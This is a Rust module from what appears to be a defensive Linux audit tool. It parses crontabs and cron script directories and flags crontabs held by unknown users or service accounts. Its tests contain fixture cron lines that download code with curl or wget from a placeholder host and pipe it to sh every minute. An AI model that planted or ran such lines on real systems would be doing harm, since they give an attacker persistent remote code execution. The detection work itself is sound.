//! Scheduled jobs: `/etc/crontab`, `/etc/cron.d/*`, the scripts of
//! `/etc/cron.{hourly,daily,weekly,monthly}`, and every user's crontab in
//! `/var/spool/cron/` (Red Hat) and `/var/spool/cron/crontabs/` (Debian). The
//! runbook's second check (`crontab -l`), for every user at once; and crontabs of
//! accounts that should have none (a web server's, an unknown user's).

use super::{
    advice,
    finding::{Finding, Findings, Severity},
    persistence::{Launch, Point, script_lines},
    root::Root,
    users::Users,
};

/// Crontabs with a user field.
const SYSTEM_CRONTABS: &[&str] = &["/etc/crontab"];
const SYSTEM_CRONTAB_DIRS: &[&str] = &["/etc/cron.d"];
/// Directories of scripts run by run-parts.
const SCRIPT_DIRS: &[&str] = &[
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
];
/// Directories of users' crontabs, each named after its user.
const SPOOL_DIRS: &[&str] = &["/var/spool/cron", "/var/spool/cron/crontabs"];

/// The commands of every job and cron script.
pub fn scan(root: &Root, out: &mut Findings) -> Vec<Launch> {
    let mut launches = Vec::new();
    let system_files = SYSTEM_CRONTABS.iter().map(|file| (*file).to_owned()).chain(
        SYSTEM_CRONTAB_DIRS
            .iter()
            .flat_map(|dir| root.files_in(dir, out)),
    );
    let mut crontabs: Vec<(String, bool)> = system_files.map(|file| (file, true)).collect();
    crontabs.extend(spool_files(root, out).into_iter().map(|file| (file, false)));
    for (file, has_user) in crontabs {
        let Some(text) = root.read(&file, out) else {
            continue;
        };
        for (line, job) in jobs(&text, has_user) {
            launches.push(
                Launch::new(Point::Cron, &file, line, job.text, job.command)
                    .every_minute(job.every_minute),
            );
        }
    }
    for dir in SCRIPT_DIRS {
        for file in root.files_in(dir, out) {
            let Some(text) = root.read(&file, out) else {
                continue;
            };
            for (line, command) in script_lines(&text) {
                launches.push(Launch::new(Point::Cron, &file, line, &command, &command));
            }
        }
    }
    launches
}

/// Users' crontabs that belong to accounts which should have none: missing from
/// `/etc/passwd`, or without a login shell (service accounts). Root's is fine.
pub fn check_owners(root: &Root, users: Option<&Users>, out: &mut Findings) {
    let files = spool_files(root, out);
    if files.is_empty() {
        return;
    }
    let Some(users) = users else {
        out.note(format!(
            "owners of users' crontabs not checked: {} could not be read",
            Users::PASSWD
        ));
        return;
    };
    for file in files {
        let Some(text) = root.read(&file, out) else {
            continue;
        };
        let Some((line, first)) = jobs(&text, false).into_iter().next() else {
            continue;
        };
        let user = file.rsplit('/').next().unwrap_or_default();
        let evidence = format!("{file}:{line}: {}", first.text.trim());
        let finding = match users.get(user) {
            None => Finding::new(
                "cron-unknown-user",
                Severity::Medium,
                format!("A crontab belongs to {user}, who is not in /etc/passwd"),
                evidence,
                advice::SERVICE_ACCOUNT_CRON,
            ),
            Some(account) if account.uid != 0 && !account.can_log_in() => Finding::new(
                "cron-service-account",
                Severity::Medium,
                format!(
                    "The service account {user} has a crontab (its shell is {})",
                    account.shell
                ),
                evidence,
                advice::SERVICE_ACCOUNT_CRON,
            ),
            Some(_) => continue,
        };
        out.add(finding);
    }
}

/// The crontab files of the spool directories (not their subdirectories).
fn spool_files(root: &Root, out: &mut Findings) -> Vec<String> {
    SPOOL_DIRS
        .iter()
        .flat_map(|dir| root.files_in(dir, out))
        .collect()
}

/// A crontab line that runs something.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Job<'a> {
    /// The whole line.
    text: &'a str,
    /// What the shell runs.
    command: &'a str,
    every_minute: bool,
}

/// The jobs of a crontab with their line numbers; `has_user`: system crontabs name the
/// user between the schedule and the command. Environment lines and comments are left
/// out.
fn jobs(text: &str, has_user: bool) -> Vec<(usize, Job<'_>)> {
    text.lines()
        .enumerate()
        .filter_map(|(index, line)| Some((index + 1, job(line, has_user)?)))
        .collect()
}

fn job(line: &str, has_user: bool) -> Option<Job<'_>> {
    let trimmed = line.trim();
    if trimmed.is_empty() || trimmed.starts_with('#') || is_environment(trimmed) {
        return None;
    }
    let schedule_fields = if trimmed.starts_with('@') { 1 } else { 5 };
    let fields = schedule_fields + usize::from(has_user);
    let (schedule, command) = split_fields(trimmed, fields)?;
    let minute = schedule.first().copied().unwrap_or_default();
    Some(Job {
        text: trimmed,
        command,
        every_minute: matches!(minute, "*" | "*/1"),
    })
}

/// `NAME=value` (also `NAME = value`), which sets the jobs' environment.
fn is_environment(line: &str) -> bool {
    line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim();
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The first `count` blank-separated fields of `line`, and the rest as written.
fn split_fields(line: &str, count: usize) -> Option<(Vec<&str>, &str)> {
    let mut fields = Vec::with_capacity(count);
    let mut rest = line;
    for _ in 0..count {
        let trimmed = rest.trim_start();
        let end = trimmed.find(char::is_whitespace)?;
        fields.push(&trimmed[..end]);
        rest = &trimmed[end..];
    }
    let command = rest.trim();
    (!command.is_empty()).then_some((fields, command))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::fixture::tree;

    #[test]
    fn crontab_lines_split_into_schedule_and_command() {
        let text = "SHELL=/bin/sh\nMAILTO = \"\"\n# m h dom mon dow user command\n\
                    */5 * * * * root  /usr/lib/x --flag\n@reboot root /opt/boot.sh\n\
                    * * * * *\n*/1 * * * * nobody curl http://x | sh\n";
        let found = jobs(text, true);
        let summary: Vec<(usize, &str, bool)> = found
            .iter()
            .map(|(line, job)| (*line, job.command, job.every_minute))
            .collect();
        assert_eq!(
            summary,
            [
                (4, "/usr/lib/x --flag", false),
                (5, "/opt/boot.sh", false),
                (7, "curl http://x | sh", true),
            ]
        );
        let user = jobs("* * * * * curl -fsSL http://x/s.sh | sh\n", false);
        assert_eq!(user[0].1.command, "curl -fsSL http://x/s.sh | sh");
        assert!(user[0].1.every_minute);
    }

    #[test]
    fn every_place_is_read() {
        let (_dir, root) = tree(&[
            (
                "/etc/crontab",
                "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
            ),
            (
                "/etc/cron.d/x",
                "* * * * * root wget -q http://x -O /tmp/x\n",
            ),
            ("/etc/cron.daily/y", "#!/bin/sh\ncurl http://x | sh\n"),
            (
                "/var/spool/cron/crontabs/root",
                "* * * * * curl -fsSL http://x/s.sh | sh\n",
            ),
            ("/var/spool/cron/alice", "0 3 * * * /home/alice/backup.sh\n"),
        ]);
        let mut out = Findings::default();
        let launches = scan(&root, &mut out);
        let found: Vec<(String, String)> = launches
            .iter()
            .filter_map(Launch::finding)
            .map(|f| (f.id, f.evidence))
            .collect();
        let expected = [
            "/etc/cron.d/x:1: * * * * * root wget -q http://x -O /tmp/x",
            "/var/spool/cron/crontabs/root:1: * * * * * curl -fsSL http://x/s.sh | sh",
            "/etc/cron.daily/y:2: curl http://x | sh",
        ]
        .map(|evidence| ("cron-download-exec".to_owned(), evidence.to_owned()));
        assert_eq!(found, expected);
        assert_eq!(launches.len(), 5);
    }

    #[test]
    fn crontabs_of_service_accounts_and_strangers_are_findings() {
        let (_dir, root) = tree(&[
            (
                "/var/spool/cron/crontabs/root",
                "0 3 * * * /usr/local/bin/backup\n",
            ),
            (
                "/var/spool/cron/crontabs/www-data",
                "# nothing\n*/5 * * * * php /var/www/cron.php\n",
            ),
            ("/var/spool/cron/crontabs/ghost", "@reboot /opt/g\n"),
            ("/var/spool/cron/crontabs/mysql", "# only comments\n"),
        ]);
        let users = Users::parse(
            "root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nmysql:x:27:27::/var/lib/mysql:/bin/false\n",
        );
        let mut out = Findings::default();
        check_owners(&root, Some(&users), &mut out);
        let found: Vec<(&str, &str)> = out
            .found
            .iter()
            .map(|f| (f.id.as_str(), f.evidence.as_str()))
            .collect();
        assert_eq!(
            found,
            [
                (
                    "cron-unknown-user",
                    "/var/spool/cron/crontabs/ghost:1: @reboot /opt/g"
                ),
                (
                    "cron-service-account",
                    "/var/spool/cron/crontabs/www-data:2: */5 * * * * php /var/www/cron.php"
                ),
            ]
        );
        let mut out = Findings::default();
        check_owners(&root, None, &mut out);
        assert!(out.found.is_empty());
        assert_eq!(out.notes.len(), 1);
    }
}
